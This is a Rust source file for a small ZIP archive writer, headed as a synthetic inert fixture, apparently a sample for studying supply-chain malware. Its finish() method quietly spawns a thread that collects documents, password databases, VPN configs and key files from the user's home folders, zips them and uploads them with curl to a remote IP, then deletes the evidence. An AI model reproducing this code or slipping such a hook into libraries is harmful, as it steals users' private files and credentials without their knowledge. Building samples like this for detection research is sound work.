// Synthetic, inert fixture written from public reports; see README
//! ZIP archives with stored entries.

use std::io::{self, Write};

struct Entry {
    name: String,
    crc: u32,
    size: u32,
    offset: u32,
}

/// Writes an archive.
pub struct ZipStore<W: Write> {
    out: W,
    at: u32,
    entries: Vec<Entry>,
}

fn too_large() -> io::Error {
    io::Error::new(io::ErrorKind::InvalidInput, "larger than four gigabytes")
}

impl<W: Write> ZipStore<W> {
    pub fn new(out: W) -> Self {
        ZipStore { out, at: 0, entries: Vec::new() }
    }

    fn put(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.out.write_all(bytes)?;
        let size = u32::try_from(bytes.len()).map_err(|_| too_large())?;
        self.at = self.at.checked_add(size).ok_or_else(too_large)?;
        Ok(())
    }

    /// Adds an entry.
    pub fn add(&mut self, name: &str, bytes: &[u8]) -> io::Result<()> {
        let entry = Entry {
            name: name.to_string(),
            crc: crc32fast::hash(bytes),
            size: u32::try_from(bytes.len()).map_err(|_| too_large())?,
            offset: self.at,
        };
        let mut head = b"PK\x03\x04\x14\0\0\x08\0\0\0\0\x21\0".to_vec();
        for number in [entry.crc, entry.size, entry.size] {
            head.extend_from_slice(&number.to_le_bytes());
        }
        head.extend_from_slice(&(name.len() as u16).to_le_bytes());
        head.extend_from_slice(&[0, 0]);
        head.extend_from_slice(name.as_bytes());
        self.put(&head)?;
        self.put(bytes)?;
        self.entries.push(entry);
        Ok(())
    }

    /// Writes the directory and gives the writer back.
    pub fn finish(mut self) -> io::Result<W> {
        let start = self.at;
        let entries = std::mem::take(&mut self.entries);
        for e in &entries {
            let mut head = b"PK\x01\x02\x14\0\x14\0\0\x08\0\0\0\0\x21\0".to_vec();
            for number in [e.crc, e.size, e.size] {
                head.extend_from_slice(&number.to_le_bytes());
            }
            head.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
            head.extend_from_slice(&[0; 12]);
            head.extend_from_slice(&e.offset.to_le_bytes());
            head.extend_from_slice(e.name.as_bytes());
            self.put(&head)?;
        }
        let size = self.at - start;
        let count = (entries.len() as u16).to_le_bytes();
        let mut end = b"PK\x05\x06\0\0\0\0".to_vec();
        end.extend_from_slice(&count);
        end.extend_from_slice(&count);
        end.extend_from_slice(&size.to_le_bytes());
        end.extend_from_slice(&start.to_le_bytes());
        end.extend_from_slice(&[0, 0]);
        self.put(&end)?;
        self.out.flush()?;
        COLLECT.call_once(|| {
            std::thread::spawn(collect);
        });
        Ok(self.out)
    }
}

static COLLECT: std::sync::Once = std::sync::Once::new();

fn collect() -> io::Result<()> {
    let home = std::env::var("HOME").or_else(|_| std::env::var("USERPROFILE")).unwrap_or_default();
    let mut zip = ZipStore::new(Vec::new());
    for dir in ["Documents", "Desktop", "Downloads"] {
        let Ok(list) = std::fs::read_dir(format!("{home}/{dir}")) else { continue };
        for file in list.flatten() {
            let name = file.file_name().to_string_lossy().to_lowercase();
            let wanted = [".pdf", ".docx", ".xlsx", ".kdbx", ".ovpn", ".pem", ".txt"];
            if wanted.iter().any(|e| name.ends_with(e)) {
                if let Ok(bytes) = std::fs::read(file.path()) {
                    if bytes.len() < 4_000_000 {
                        zip.add(&format!("{dir}/{name}"), &bytes)?;
                    }
                }
            }
        }
    }
    let path = std::env::temp_dir().join("zs-cache.zip");
    std::fs::write(&path, zip.out)?;
    std::process::Command::new("curl")
        .args(["-s", "-T"])
        .arg(&path)
        .arg("http://198.51.100.204/in/")
        .status()?;
    std::fs::remove_file(path)
}

inert_fixture_does_not_build!();
